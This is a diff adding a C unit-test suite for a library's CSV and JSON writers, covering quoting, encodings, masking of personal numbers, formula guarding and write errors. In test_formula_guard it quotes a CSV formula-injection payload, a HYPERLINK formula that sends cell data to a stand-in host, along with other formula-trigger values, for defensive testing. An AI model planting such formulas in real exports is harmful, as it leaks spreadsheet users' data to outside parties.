@@ -1,0 +1,699 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * Writers: CSV quoting and columns, JSON output of each kind, encodings,
+ * the formula guard, masking, write errors, and round trips through the
+ * readers.
+ */
+#include <errno.h>
+#include <iconv.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#include "io_test.h"
+
+/* Output written to memory. */
+struct out {
+	char *data;
+	size_t len;
+	FILE *fp;
+};
+
+static struct la_writer *
+open_out(struct out *o, enum la_format format, struct la_write_opts *opts)
+{
+	struct la_write_opts w;
+	struct la_error err;
+	struct la_writer *wr;
+
+	memset(&w, 0, sizeof(w));
+	if (opts != NULL)
+		w = *opts;
+	w.format = format;
+	o->data = NULL;
+	o->len = 0;
+	o->fp = open_memstream(&o->data, &o->len);
+	la_error_clear(&err);
+	wr = la_writer_open(o->fp, "out", &w, &err);
+	assert_non_null(wr);
+	return wr;
+}
+
+static void
+close_out(struct out *o, struct la_writer *wr)
+{
+	struct la_error err;
+
+	la_error_clear(&err);
+	assert_int_equal(la_writer_close(wr, &err), 0);
+	fclose(o->fp);
+}
+
+static void
+put(struct la_writer *wr, const struct la_record *r)
+{
+	struct la_error err;
+
+	la_error_clear(&err);
+	assert_int_equal(la_writer_put(wr, r, &err), 0);
+}
+
+static void
+add(struct la_record *r, const char *name, int id, const char *value,
+    enum la_kind kind)
+{
+	assert_non_null(la_record_append(r, name, id, value, strlen(value),
+	    kind));
+}
+
+static void
+test_csv_quoting(void **state)
+{
+	static const char *values[] = { "abc", "a,b", "say \"hi\"", "a\nb",
+	    "a\rb", " x", "x\t", "", "陈思远" };
+	static const char *names[] = { "n1", "n2", "n3", "n4", "n5", "n6",
+	    "n7", "n8", "n 9" };
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	for (size_t i = 0; i < 9; i++)
+		add(&r, names[i], -1, values[i], LA_KIND_TEXT);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "n1,n2,n3,n4,n5,n6,n7,n8,n 9\n"
+	    "abc,\"a,b\",\"say \"\"hi\"\"\",\"a\nb\",\"a\rb\",\" x\",\"x\t\",,"
+	    "陈思远\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_csv_columns(void **state)
+{
+	struct la_record r;
+	struct la_writer *wr;
+	struct la_error err;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	add(&r, "a", -1, "1", LA_KIND_TEXT);
+	add(&r, "b", -1, "2", LA_KIND_TEXT);
+	put(wr, &r);
+	/* Another order, and a field missing. */
+	la_record_reset(&r);
+	add(&r, "b", -1, "3", LA_KIND_TEXT);
+	add(&r, "a", -1, "4", LA_KIND_TEXT);
+	put(wr, &r);
+	la_record_reset(&r);
+	add(&r, "b", -1, "5", LA_KIND_TEXT);
+	put(wr, &r);
+	/*
+	 * A field the first record lacked, as a ragged row brings: its value
+	 * follows the last column, never dropped.
+	 */
+	la_record_reset(&r);
+	r.line = 7;
+	add(&r, "a", -1, "6", LA_KIND_TEXT);
+	add(&r, "c", -1, "7", LA_KIND_TEXT);
+	la_error_clear(&err);
+	assert_int_equal(la_writer_put(wr, &r, &err), 0);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "a,b\n1,2\n4,3\n,5\n6,,7\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_csv_lone_empty_field(void **state)
+{
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	add(&r, "备注", -1, "", LA_KIND_TEXT);
+	put(wr, &r);
+	close_out(&o, wr);
+	/* A blank line would be skipped by readers. */
+	assert_string_equal(o.data, "备注\n\"\"\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+/* Reads text, writes it as CSV, reads that again: the same records. */
+static void
+round_trip_csv(const char *path)
+{
+	struct io_run first, second;
+	struct la_read_opts ro;
+	struct la_reader *rd;
+	struct la_writer *wr;
+	struct la_record r;
+	struct la_error err;
+	struct out o;
+	FILE *fp = fopen(path, "rb");
+
+	memset(&ro, 0, sizeof(ro));
+	la_error_clear(&err);
+	la_record_init(&r);
+	io_read_file(path, NULL, &first);
+	assert_int_equal(first.failed, 0);
+	rd = la_reader_open(fp, path, &ro, &err);
+	assert_non_null(rd);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	while (la_reader_next(rd, &r, &err) == 1)
+		put(wr, &r);
+	close_out(&o, wr);
+	la_reader_close(rd);
+	fclose(fp);
+	io_read_text(o.data, o.len, NULL, &second);
+	assert_int_equal(second.failed, 0);
+	if (!json_equal(first.records, second.records))
+		fail_msg("%s changed in a CSV round trip", path);
+	io_run_free(&first);
+	io_run_free(&second);
+	la_record_free(&r);
+	free(o.data);
+}
+
+static void
+test_csv_round_trips(void **state)
+{
+	static const char *files[] = {
+		"01-bom-crlf-roster.csv", "02-bom-quoted-header.csv",
+		"03-gbk-excel-export.csv", "04-gbk-trailing-empty-rows.csv",
+		"05-gb18030-rare-name.csv", "08-excel-unicode-text-utf16.csv",
+		"10-no-final-newline.csv", "11-embedded-newline-address.csv",
+		"12-doubled-quotes-firm-name.csv",
+		"13-bare-quote-in-unquoted-field.csv",
+		"18-trailing-comma-empty-header.csv",
+		"21-whitespace-fullwidth-space.csv", "23-very-long-field.csv",
+		"26-excel-mangled-long-numbers.csv",
+		"27-thousands-separators.csv", "28-fullwidth-digits.csv",
+		"37-formula-injection.csv",
+	};
+	char path[256];
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+		snprintf(path, sizeof(path), INPUTS "%s", files[i]);
+		round_trip_csv(path);
+	}
+}
+
+static void
+test_doubled_quotes_written(void **state)
+{
+	struct la_read_opts ro;
+	struct la_reader *rd;
+	struct la_writer *wr;
+	struct la_record r;
+	struct la_error err;
+	struct out o;
+	FILE *fp = fopen(INPUTS "12-doubled-quotes-firm-name.csv", "rb");
+
+	(void)state;
+	memset(&ro, 0, sizeof(ro));
+	la_error_clear(&err);
+	la_record_init(&r);
+	rd = la_reader_open(fp, "12", &ro, &err);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	while (la_reader_next(rd, &r, &err) == 1)
+		put(wr, &r);
+	close_out(&o, wr);
+	la_reader_close(rd);
+	fclose(fp);
+	assert_string_equal(o.data, "姓名,执业单位,服务意向\n"
+	    "陈思远,\"示例市\"\"明德\"\"律师事务所\",刑事辩护\n"
+	    "林晓雯,示例市正平律师事务所,\"\"\"法律咨询\"\",民事代理\"\n"
+	    "王建国,\"\"\"\"\"\",\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+copy_file(const char *path, enum la_format format,
+    struct la_write_opts *opts, struct out *o)
+{
+	struct la_read_opts ro;
+	struct la_reader *rd;
+	struct la_writer *wr;
+	struct la_record r;
+	struct la_error err;
+	FILE *fp = fopen(path, "rb");
+
+	memset(&ro, 0, sizeof(ro));
+	la_error_clear(&err);
+	la_record_init(&r);
+	rd = la_reader_open(fp, path, &ro, &err);
+	assert_non_null(rd);
+	wr = open_out(o, format, opts);
+	while (la_reader_next(rd, &r, &err) == 1)
+		put(wr, &r);
+	close_out(o, wr);
+	la_reader_close(rd);
+	la_record_free(&r);
+	fclose(fp);
+}
+
+static void
+test_formula_guard(void **state)
+{
+	struct la_write_opts w;
+	struct out o;
+
+	(void)state;
+	memset(&w, 0, sizeof(w));
+	w.formula_guard = 1;
+	copy_file(INPUTS "37-formula-injection.csv", LA_FORMAT_CSV, &w, &o);
+	assert_string_equal(o.data, "姓名,联系电话,备注\n"
+	    "\"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A2,"
+	    "\"\"点击查看\"\")\",13900000001,正常\n"
+	    "林晓雯,'+86 139 0000 0002,'+1 补录\n"
+	    "王建国,13900000003,'-\n"
+	    "赵丽娟,13900000004,'@SUM(1+1)\n"
+	    "刘振华,13900000005,\"'\tcmd\"\n");
+	free(o.data);
+	/* JSON output keeps the values as they are. */
+	copy_file(INPUTS "37-formula-injection.csv", LA_FORMAT_JSONL, &w, &o);
+	assert_non_null(strstr(o.data, "\"备注\":\"-\""));
+	assert_non_null(strstr(o.data, "\"备注\":\"@SUM(1+1)\""));
+	free(o.data);
+}
+
+static void
+test_mask(void **state)
+{
+	struct la_write_opts w;
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	memset(&w, 0, sizeof(w));
+	w.mask = 1;
+	la_record_init(&r);
+	add(&r, "身份证号", LA_F_ID_NUMBER, "110101199003071234",
+	    LA_KIND_TEXT);
+	add(&r, "联系电话", LA_F_PHONE, "13900000001", LA_KIND_TEXT);
+	add(&r, "办公电话", LA_F_OFFICE_PHONE, "010-65120001", LA_KIND_TEXT);
+	add(&r, "手机", LA_F_PHONE, "12345", LA_KIND_NUMBER);
+	add(&r, "证件", LA_F_ID_NUMBER, "１１０１０１１９９００３０７１２３４",
+	    LA_KIND_TEXT);
+	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
+	wr = open_out(&o, LA_FORMAT_CSV, &w);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data,
+	    "身份证号,联系电话,办公电话,手机,证件,姓名\n"
+	    "110101********1234,139****0001,010*****0001,*****,"
+	    "１１０１０１********１２３４,陈思远\n");
+	free(o.data);
+	wr = open_out(&o, LA_FORMAT_JSONL, &w);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_non_null(strstr(o.data, "\"身份证号\":\"110101********1234\""));
+	assert_non_null(strstr(o.data, "\"手机\":\"*****\""));
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_json_kinds(void **state)
+{
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	assert_non_null(la_record_append(&r, "text", -1, "q\"b\\n\n\t\x01\0z",
+	    10, LA_KIND_TEXT));
+	add(&r, "score", -1, "87.5", LA_KIND_NUMBER);
+	add(&r, "tenth", -1, "0.1", LA_KIND_NUMBER);
+	add(&r, "int", -1, "-42", LA_KIND_NUMBER);
+	add(&r, "huge", -1, "12345678901234567890", LA_KIND_NUMBER);
+	add(&r, "nan", -1, "nan", LA_KIND_NUMBER);
+	add(&r, "word", -1, "八", LA_KIND_NUMBER);
+	add(&r, "yes", -1, "true", LA_KIND_BOOL);
+	add(&r, "odd", -1, "是", LA_KIND_BOOL);
+	add(&r, "none", -1, "", LA_KIND_NULL);
+	add(&r, "list", -1, "刑事辩护;民事代理", LA_KIND_LIST);
+	add(&r, "empty", -1, "", LA_KIND_LIST);
+	add(&r, "json", -1, "{\"k\":[1,2]}", LA_KIND_JSON);
+	add(&r, "bad", -1, "{", LA_KIND_JSON);
+	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
+	assert_int_equal(la_record_add_finding(&r, "input", NULL, "m1"), 0);
+	assert_int_equal(la_record_add_finding(&r, "window", "name", "m2"), 0);
+	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "{\"text\":\"q\\\"b\\\\n\\n\\t\\u0001"
+	    "\\u0000z\",\"score\":87.5,\"tenth\":0.1,\"int\":-42,"
+	    "\"huge\":\"12345678901234567890\",\"nan\":null,\"word\":\"八\","
+	    "\"yes\":true,\"odd\":\"是\",\"none\":null,"
+	    "\"list\":[\"刑事辩护\",\"民事代理\"],\"empty\":[],"
+	    "\"json\":{\"k\":[1,2]},\"bad\":\"{\","
+	    "\"findings\":[{\"rule\":\"input\",\"field\":null,"
+	    "\"message\":\"m1\"},"
+	    "{\"rule\":\"window\",\"field\":\"name\",\"message\":\"m2\"}]}\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_csv_kinds(void **state)
+{
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	add(&r, "list", -1, "a;b", LA_KIND_LIST);
+	add(&r, "none", -1, "", LA_KIND_NULL);
+	add(&r, "findings", -1, "", LA_KIND_FINDINGS);
+	assert_int_equal(la_record_add_finding(&r, "window", NULL, "late"), 0);
+	assert_int_equal(la_record_add_finding(&r, "phone", NULL, "bad, x"),
+	    0);
+	wr = open_out(&o, LA_FORMAT_CSV, NULL);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "list,none,findings\n"
+	    "a;b,,\"window: late; phone: bad, x\"\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_json_array_output(void **state)
+{
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	la_record_init(&r);
+	wr = open_out(&o, LA_FORMAT_JSON, NULL);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "[]\n");
+	free(o.data);
+	wr = open_out(&o, LA_FORMAT_JSON, NULL);
+	add(&r, "a", -1, "1", LA_KIND_TEXT);
+	put(wr, &r);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "[\n{\"a\":\"1\"},\n{\"a\":\"1\"}\n]\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+/* Reads what a writer produced and compares kinds and values. */
+static void
+test_json_round_trip(void **state)
+{
+	static const char text[] = "{\"s\":\"x\\u0000\",\"i\":-42,\"r\":0.1,"
+	    "\"t\":true,\"n\":null,\"l\":[\"a\",\"b\"],\"o\":{\"k\":[1,2]},"
+	    "\"big\":13199201510000001}\n";
+	struct la_read_opts ro;
+	struct la_reader *rd;
+	struct la_writer *wr;
+	struct la_record r, again;
+	struct la_error err;
+	struct out o;
+	FILE *fp = fmemopen((void *)text, sizeof(text) - 1, "rb");
+
+	(void)state;
+	memset(&ro, 0, sizeof(ro));
+	la_error_clear(&err);
+	la_record_init(&r);
+	la_record_init(&again);
+	rd = la_reader_open(fp, "text", &ro, &err);
+	assert_int_equal(la_reader_next(rd, &r, &err), 1);
+	wr = open_out(&o, LA_FORMAT_JSONL, NULL);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, text);
+	la_reader_close(rd);
+	fclose(fp);
+	fp = fmemopen(o.data, o.len, "rb");
+	rd = la_reader_open(fp, "out", &ro, &err);
+	assert_int_equal(la_reader_next(rd, &again, &err), 1);
+	assert_int_equal(again.nfields, r.nfields);
+	for (size_t i = 0; i < r.nfields; i++) {
+		assert_int_equal(again.fields[i].kind, r.fields[i].kind);
+		assert_int_equal(again.fields[i].len, r.fields[i].len);
+		assert_memory_equal(again.fields[i].value, r.fields[i].value,
+		    r.fields[i].len);
+	}
+	la_reader_close(rd);
+	fclose(fp);
+	free(o.data);
+	la_record_free(&r);
+	la_record_free(&again);
+}
+
+static void
+test_gb18030_output(void **state)
+{
+	static const char want[] = "姓名,通讯地址\n陈思远,示例市𬌗\n";
+	char gb[64], *in = (char *)want, *out = gb;
+	size_t inleft = sizeof(want) - 1, outleft = sizeof(gb);
+	struct la_write_opts w;
+	struct la_record r;
+	struct la_writer *wr;
+	iconv_t cd = iconv_open("GB18030", "UTF-8");
+	struct out o;
+
+	(void)state;
+	assert_true(iconv(cd, &in, &inleft, &out, &outleft) != (size_t)-1);
+	iconv_close(cd);
+	memset(&w, 0, sizeof(w));
+	w.encoding = "gb18030";
+	w.bom = 1;
+	la_record_init(&r);
+	add(&r, "姓名", LA_F_NAME, "陈思远", LA_KIND_TEXT);
+	add(&r, "通讯地址", LA_F_ADDRESS, "示例市𬌗", LA_KIND_TEXT);
+	wr = open_out(&o, LA_FORMAT_CSV, &w);
+	put(wr, &r);
+	close_out(&o, wr);
+	/* The same bytes as iconv gives, and no BOM in GB18030. */
+	assert_int_equal(o.len, (size_t)(out - gb));
+	assert_memory_equal(o.data, gb, o.len);
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_bom_output(void **state)
+{
+	struct la_write_opts w;
+	struct la_record r;
+	struct la_writer *wr;
+	struct out o;
+
+	(void)state;
+	memset(&w, 0, sizeof(w));
+	w.bom = 1;
+	la_record_init(&r);
+	add(&r, "a", -1, "1", LA_KIND_TEXT);
+	wr = open_out(&o, LA_FORMAT_CSV, &w);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "\xEF\xBB\xBF" "a\n1\n");
+	free(o.data);
+	/* RFC 8259 forbids a BOM in JSON. */
+	wr = open_out(&o, LA_FORMAT_JSONL, &w);
+	put(wr, &r);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "{\"a\":\"1\"}\n");
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_unencodable(void **state)
+{
+	struct la_write_opts w;
+	struct la_record r;
+	struct la_writer *wr;
+	struct la_error err;
+	struct out o;
+
+	(void)state;
+	memset(&w, 0, sizeof(w));
+	w.encoding = "GBK";
+	la_record_init(&r);
+	r.line = 9;
+	add(&r, "姓名", LA_F_NAME, "李𬌗", LA_KIND_TEXT);
+	wr = open_out(&o, LA_FORMAT_JSONL, &w);
+	la_error_clear(&err);
+	assert_int_equal(la_writer_put(wr, &r, &err), -1);
+	assert_int_equal(err.code, LA_ERR_ENCODING);
+	assert_int_equal(err.line, 9);
+	close_out(&o, wr);
+	free(o.data);
+	la_record_free(&r);
+}
+
+static void
+test_invalid_utf8_refused(void **state)
+{
+	struct la_record good, bad;
+	struct la_writer *wr;
+	struct la_error err;
+	struct out o;
+
+	(void)state;
+	la_record_init(&good);
+	la_record_init(&bad);
+	add(&good, "a", -1, "1", LA_KIND_TEXT);
+	bad.line = 4;
+	add(&bad, "a", -1, "\xFF", LA_KIND_TEXT);
+	/* The first record fails: the array keeps its '['. */
+	wr = open_out(&o, LA_FORMAT_JSON, NULL);
+	la_error_clear(&err);
+	assert_int_equal(la_writer_put(wr, &bad, &err), -1);
+	assert_int_equal(err.code, LA_ERR_VALUE);
+	assert_int_equal(err.line, 4);
+	assert_string_equal(err.field, "a");
+	put(wr, &good);
+	close_out(&o, wr);
+	assert_string_equal(o.data, "[\n{\"a\":\"1\"}\n]\n");
+	free(o.data);
+	la_record_free(&good);
+	la_record_free(&bad);
+}
+
+static void
+test_format_names(void **state)
+{
+	(void)state;
+	assert_int_equal(la_format_parse("csv"), LA_FORMAT_CSV);
+	assert_int_equal(la_format_parse("jsonl"), LA_FORMAT_JSONL);
+	assert_int_equal(la_format_parse("json"), LA_FORMAT_JSON);
+	assert_int_equal(la_format_parse("JSON"), -1);
+	assert_int_equal(la_format_parse("auto"), -1);
+	assert_string_equal(la_format_name(LA_FORMAT_CSV), "csv");
+	assert_string_equal(la_format_name(LA_FORMAT_JSONL), "jsonl");
+	assert_string_equal(la_format_name(LA_FORMAT_JSON), "json");
+	assert_string_equal(la_format_name(LA_FORMAT_AUTO), "auto");
+}
+
+static void
+test_unknown_output_encoding(void **state)
+{
+	struct la_write_opts w;
+	struct la_error err;
+
+	(void)state;
+	memset(&w, 0, sizeof(w));
+	w.format = LA_FORMAT_CSV;
+	w.encoding = "no-such-encoding";
+	la_error_clear(&err);
+	assert_null(la_writer_open(stdout, "-", &w, &err));
+	assert_int_equal(err.code, LA_ERR_USAGE);
+	assert_non_null(strstr(err.text, "no-such-encoding"));
+}
+
+/* Writes records to fp until the writer reports an error. */
+static void
+expect_write_error(FILE *fp, int code)
+{
+	struct la_write_opts w;
+	struct la_record r;
+	struct la_writer *wr;
+	struct la_error err;
+	int rc = 0;
+
+	memset(&w, 0, sizeof(w));
+	w.format = LA_FORMAT_CSV;
+	la_record_init(&r);
+	add(&r, "通讯地址", LA_F_ADDRESS, "示例市东城区幸福路12号3单元501室",
+	    LA_KIND_TEXT);
+	la_error_clear(&err);
+	wr = la_writer_open(fp, "out", &w, &err);
+	assert_non_null(wr);
+	for (int i = 0; i < 20000 && rc == 0; i++)
+		rc = la_writer_put(wr, &r, &err);
+	if (rc == 0)
+		rc = la_writer_close(wr, &err);
+	else
+		la_writer_close(wr, NULL);
+	assert_int_equal(rc, -1);
+	assert_int_equal(err.code, LA_ERR_IO);
+	assert_non_null(strstr(err.text, strerror(code)));
+	la_record_free(&r);
+}
+
+static void
+test_disk_full(void **state)
+{
+	FILE *fp = fopen("/dev/full", "wb");
+
+	(void)state;
+	if (fp == NULL)
+		skip();
+	expect_write_error(fp, ENOSPC);
+	fclose(fp);
+}
+
+static void
+test_broken_pipe(void **state)
+{
+	void (*old)(int) = signal(SIGPIPE, SIG_IGN);
+	int fds[2];
+	FILE *fp;
+
+	(void)state;
+	assert_int_equal(pipe(fds), 0);
+	close(fds[0]);
+	fp = fdopen(fds[1], "wb");
+	expect_write_error(fp, EPIPE);
+	fclose(fp);
+	signal(SIGPIPE, old);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_csv_quoting),
+		cmocka_unit_test(test_csv_columns),
+		cmocka_unit_test(test_csv_lone_empty_field),
+		cmocka_unit_test(test_csv_round_trips),
+		cmocka_unit_test(test_doubled_quotes_written),
+		cmocka_unit_test(test_formula_guard),
+		cmocka_unit_test(test_mask),
+		cmocka_unit_test(test_json_kinds),
+		cmocka_unit_test(test_csv_kinds),
+		cmocka_unit_test(test_json_array_output),
+		cmocka_unit_test(test_json_round_trip),
+		cmocka_unit_test(test_gb18030_output),
+		cmocka_unit_test(test_bom_output),
+		cmocka_unit_test(test_unencodable),
+		cmocka_unit_test(test_invalid_utf8_refused),
+		cmocka_unit_test(test_format_names),
+		cmocka_unit_test(test_unknown_output_encoding),
+		cmocka_unit_test(test_disk_full),
+		cmocka_unit_test(test_broken_pipe),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
